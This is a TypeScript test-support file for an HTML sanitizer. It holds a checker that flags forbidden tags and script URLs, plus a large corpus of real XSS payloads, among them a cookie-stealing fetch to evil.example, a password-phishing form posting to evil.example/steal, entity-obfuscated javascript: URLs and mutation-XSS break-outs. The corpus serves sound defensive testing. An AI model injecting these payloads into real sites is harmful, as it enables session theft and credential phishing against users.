import { htmlAllowList } from '@office/api/services/html-sanitize';

/**
 * A corpus of XSS vectors and the checks sanitized HTML must pass: shared by the sanitizer's own
 * tests and the console's (vectors saved through posts.create/update, read back from the public site).
 */

// --- Reading the sanitizer's output -------------------------------------------------------------

interface Tag {
  name: string;
  closing: boolean;
  attributes: Array<[name: string, value: string | undefined]>;
}

/**
 * The tags of sanitized output. sanitize-html writes `<`, `>` and `"` inside attribute values and
 * `<`, `>` in text as entities, so a tag runs from `<` to the next `>`, and every value is quoted.
 */
function tagsOf(html: string): Tag[] {
  return [...html.matchAll(/<(\/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)].map(([, closing, name, rest]) => ({
    name: name!.toLowerCase(),
    closing: closing === '/',
    attributes: [...rest!.matchAll(/\s([^\s="/]+)(?:="([^"]*)")?/g)].map(([, attribute, value]) => [attribute!.toLowerCase(), value]),
  }));
}

/** An attribute value as the browser reads it: entities decoded. */
function decodeAttribute(value: string): string {
  const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n' };
  return value.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (match, name: string) => {
    if (name[0] !== '#') return named[name.toLowerCase()] ?? match;
    const code = name[1]?.toLowerCase() === 'x' ? parseInt(name.slice(2), 16) : parseInt(name.slice(1), 10);
    return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : '\ufffd';
  });
}

/** What is left of a URL once everything a browser may skip (controls, spaces, invisibles) is gone. */
const squeezed = (url: string) => url.replace(/[\s\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2060-\u2064\ufeff\ufffd]/g, '');

const allowedTags = new Set(htmlAllowList.allowedTags as string[]);
const allowedAttributes: Record<string, string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  img: ['src', 'alt', 'width', 'height', 'loading'],
  ol: ['start'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
};
const forbiddenTags =
  /<\/?\s*(script|iframe|frame|frameset|form|input|button|textarea|select|object|embed|applet|base|meta|link|style|svg|math|noscript|template|title|xmp|plaintext)\b/i;
const dangerousSchemes = /(?:java|vb)script:|livescript:|data:\s*text\/html/i;

/** Every check a sanitized vector must pass; returns the problems found, none when safe. */
export function problemsWith(output: string): string[] {
  const problems: string[] = [];
  if (/<script/i.test(output)) problems.push('a <script');
  if (forbiddenTags.test(output)) problems.push(`a forbidden tag: ${forbiddenTags.exec(output)![0]}`);
  if (/<[^>]*\son\w+\s*=/i.test(output)) problems.push('an on*= attribute');
  if (dangerousSchemes.test(output)) problems.push('a javascript:/vbscript:/data:text/html URL');

  for (const tag of tagsOf(output)) {
    if (!allowedTags.has(tag.name)) problems.push(`tag <${tag.name}> is not on the allow-list`);
    for (const [name, raw] of tag.attributes) {
      if (/^on/.test(name)) problems.push(`event handler ${name} on <${tag.name}>`);
      if (!allowedAttributes[tag.name]?.includes(name)) problems.push(`attribute ${name} on <${tag.name}>`);
      const value = squeezed(decodeAttribute(raw ?? ''));
      if (dangerousSchemes.test(value)) problems.push(`${name}="${raw}" on <${tag.name}> is a script URL`);
      if (name === 'href' && !/^(?:https?:|mailto:|tel:|[^:/?#]*(?:[/?#]|$))/i.test(value)) problems.push(`href="${raw}"`);
      if (name === 'src' && !/^(?:https?:|[^:/?#]*(?:[/?#]|$))/i.test(value)) problems.push(`src="${raw}"`);
      if ((name === 'href' || name === 'src') && /^[\\/]{2}/.test(value)) problems.push(`protocol-relative ${name}="${raw}"`);
    }
  }
  // Every `<` left must open or close one of the tags read above: no markup hides in text.
  if (output.replace(/<\/?[a-zA-Z][a-zA-Z0-9]*[^>]*>/g, '').includes('<')) problems.push('a stray <');
  return problems;
}

// --- The corpus ----------------------------------------------------------------------------------

const b64Script = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>
const b64Svg = 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+'; // <svg onload=alert(1)></svg>
/** `text` as numeric character references: decimal or hex, zero-padded, with or without `;`. */
const asEntities = (text: string, { hex = false, pad = 0, semicolon = true } = {}) =>
  [...text]
    .map(
      (c) =>
        `&#${hex ? 'x' : ''}${c
          .codePointAt(0)!
          .toString(hex ? 16 : 10)
          .padStart(pad, '0')}${semicolon ? ';' : ''}`,
    )
    .join('');

/** Real XSS vectors, after the OWASP filter-evasion cheat sheet, PortSwigger's list and mXSS papers. */
export const vectors: Array<[label: string, html: string]> = [
  // <script> in its many spellings
  ['plain script', '<script>alert(1)</script>'],
  ['upper-case script', '<SCRIPT>alert(1)</SCRIPT>'],
  ['mixed-case script', '<ScRiPt>alert(1)</sCrIpT>'],
  ['external script', '<script src="https://evil.example/x.js"></script>'],
  ['script with slash for space', '<script/src="//evil.example/x.js"></script>'],
  ['script with newlines in the tags', '<script\n>alert(1)</script\n>'],
  ['script with type', '<script type="text/javascript">alert(document.cookie)</script>'],
  ['script after a stray <', '<<script>alert(1);//<</script>'],
  ['script split by a script', '<scr<script>ipt>alert(1)</script>'],
  ['unclosed script', '<p>text</p><script>alert(1)</script'],
  ['script between paragraphs', '<p>ok</p><script>fetch("https://evil.example/?c="+document.cookie)</script><p>ok</p>'],
  ['script inside an allowed element', '<div><p><script>alert(1)</script></p></div>'],
  ['attribute break-out into a script', '"><script>alert(1)</script>'],
  ['script in a quoted attribute of a broken img', '<img """><script>alert(1)</script>">'],
  ['script after an unknown tag', '<xss onafterscriptexecute=alert(1)><script>1</script>'],
  ['title breaking out into a script', '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>x</a>'],
  // event handlers
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['upper-case IMG ONERROR', '<IMG SRC="x" ONERROR="alert(1)">'],
  ['img onerror calling eval(src)', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['img onerror with javascript: label', '<img src=1 href=1 onerror="javascript:alert(1)"></img>'],
  ['https img onload', '<img src="https://ok.example/a.png" alt="a" onload="alert(1)">'],
  ['body onload', '<body onload=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg/onload', '<svg/onload=alert(1)>'],
  ['p onclick', '<p onclick="alert(1)">click</p>'],
  ['div onmouseover', '<div onmouseover="alert(1)">hover</div>'],
  ['h1 onclick', '<h1 onclick=alert(1)>title</h1>'],
  ['link onmouseover', '<a href="https://ok.example" onmouseover=alert(1)>x</a>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['input onfocus autofocus', '<input autofocus onfocus=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['table cell onclick and background', '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>'],
  ['frameset onload', '<frameset onload=alert(1)>'],
  // javascript:, vbscript: and data: URLs
  ['javascript: href', '<a href="javascript:alert(1)">x</a>'],
  ['mixed-case javascript: href', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['href with leading spaces', '<a href="  javascript:alert(1)">x</a>'],
  ['unquoted javascript: href', '<a href=javascript:alert(1)>x</a>'],
  ['decimal-entity javascript: href', `<a href="${asEntities('javascript:')}alert(1)">x</a>`],
  ['hex-entity javascript: href', `<a href="${asEntities('javascript:', { hex: true })}alert(1)">x</a>`],
  ['tab entity inside javascript:', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['newline entity inside javascript:', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['carriage-return entity inside javascript:', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
  ['literal tab inside javascript:', '<a href="jav\tascript:alert(1)">x</a>'],
  ['&Tab; and &colon;', '<a href="java&Tab;script&colon;alert(1)">x</a>'],
  ['&colon; only', '<a href="javascript&colon;alert(1)">x</a>'],
  ['control characters before javascript:', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['NUL entity before javascript:', '<a href="&#0;javascript:alert(1)">x</a>'],
  ['byte-order mark before javascript:', '<a href="&#xFEFF;javascript:alert(1)">x</a>'],
  ['no-break space before javascript:', '<a href="\u00a0javascript:alert(1)">x</a>'],
  ['HTML comment inside javascript:', '<a href="java<!-- -->script:alert(1)">x</a>'],
  ['javascript:// with an encoded newline', '<a href="javascript://%0Aalert(1)">x</a>'],
  ['javascript: href with target _blank', '<a href="javascript:alert(1)" target="_blank">x</a>'],
  ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['mixed-case VBScript: href', '<a href="VBScript:MsgBox(1)">x</a>'],
  ['data:text/html base64 href', `<a href="data:text/html;base64,${b64Script}">x</a>`],
  ['data:text/html href', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['mixed-case DaTa: href', '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>'],
  ['javascript: img src', "<IMG SRC=javascript:alert('XSS')>"],
  ['mixed-case javascript: img src', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['zero-padded decimal entities without semicolons', `<IMG SRC=${asEntities("javascript:alert('XSS')", { pad: 7, semicolon: false })}>`],
  ['hex entities without semicolons', `<IMG SRC=${asEntities("javascript:alert('XSS')", { hex: true, semicolon: false })}>`],
  ['data:text/html img src', '<img src="data:text/html,<script>alert(1)</script>">'],
  ['data: SVG img src', `<img src="data:image/svg+xml;base64,${b64Svg}">`],
  ['protocol-relative img src', '<img src="//evil.example/track.gif">'],
  // elements that run code, load documents or post data
  ['iframe javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe from elsewhere', '<iframe src="https://evil.example/phish"></iframe>'],
  ['form with javascript: action', '<form action="javascript:alert(1)"><input type=submit></form>'],
  [
    'phishing form',
    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
  ],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['isindex action', '<isindex action=javascript:alert(1) type=image>'],
  ['object javascript: data', '<object data="javascript:alert(1)"></object>'],
  ['object data:text/html', `<object data="data:text/html;base64,${b64Script}"></object>`],
  ['object scriptlet', '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>'],
  ['embed javascript: src', '<embed src="javascript:alert(1)">'],
  ['embed SVG data', `<embed src="data:image/svg+xml;base64,${b64Svg}" type="image/svg+xml">`],
  ['applet', '<applet code="X.class" codebase="https://evil.example/"></applet>'],
  ['math href', '<math href="javascript:alert(1)">CLICK</math>'],
  ['math maction xlink:href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg a xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['svg set href', '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>'],
  // styles, metadata and the base URL
  ['style @import', "<style>@import 'https://evil.example/x.css';</style>"],
  ['style javascript: url', '<style>body{background:url("javascript:alert(1)")}</style>'],
  ['link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'],
  ['meta refresh javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh data:', `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64Script}">`],
  ['base javascript:', '<base href="javascript:alert(1)//">'],
  ['base elsewhere', '<base href="https://evil.example/">'],
  ['style attribute javascript: url', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['style attribute expression()', '<p style="width:expression(alert(1))">x</p>'],
  ['style attribute behavior', '<span style="behavior:url(x.htc)">x</span>'],
  ['DOM clobbering ids and names', '<img name="getElementById" src="https://ok.example/a.png"><p id="__proto__" class="admin">x</p>'],
  // mutation XSS: markup the browser parses differently from a server-side parser
  ['noscript title break-out', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['svg style a id', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['svg p style', '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>'],
  ['math mtext table mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['form math mglyph style', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['template script', '<template><script>alert(1)</script></template>'],
  ['textarea script', '<textarea><script>alert(1)</script></textarea>'],
  ['title script', '<title><script>alert(1)</script></title>'],
  ['xmp script', '<xmp><script>alert(1)</script></xmp>'],
  ['noembed img onerror', '<noembed><img src=x onerror=alert(1)></noembed>'],
  ['plaintext img onerror', '<plaintext><img src=x onerror=alert(1)>'],
  ['entity-encoded markup in text', '<p>&lt;img src=x onerror=alert(1)&gt;</p>'],
  ['filter-evasion soup', `'';!--"<XSS>=&{()}`],
];
